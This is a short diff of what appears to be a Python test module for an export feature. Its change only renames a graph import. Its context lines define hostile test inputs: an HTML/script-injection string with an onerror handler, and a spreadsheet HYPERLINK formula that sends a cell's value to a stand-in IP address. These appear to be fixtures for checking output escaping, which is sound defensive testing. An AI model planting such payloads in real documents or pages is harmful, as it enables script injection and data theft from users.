@@ -4,7 +4,7 @@ from typing import Any
 
 from cypher.evidence import Evidence, Parties
 from explorer.export.contents import About, LoadedContents
-from graph.stored import Graph, Node, Relationship
+from graph.stored_graph import Graph, Node, Relationship
 
 HOSTILE = "</script><img src=x onerror=\"document.title='owned'\"> & 'kutip' \"ganda\" \\n ${x} \u2028 ]]> `tik`"
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"klik")'
